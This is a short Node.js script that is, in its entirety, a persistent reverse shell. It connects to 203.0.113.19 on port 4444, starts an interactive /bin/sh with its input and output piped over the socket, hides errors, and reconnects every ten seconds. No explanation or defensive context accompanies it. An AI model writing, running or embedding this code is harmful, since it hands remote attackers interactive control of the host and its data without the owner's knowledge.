const net = require('net');
const { spawn } = require('child_process');

function connect() {
  const sock = net.connect(4444, '203.0.113.19', () => {
    const sh = spawn('/bin/sh', ['-i']);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => {});
  sock.on('close', () => setTimeout(connect, 10000));
}
connect();
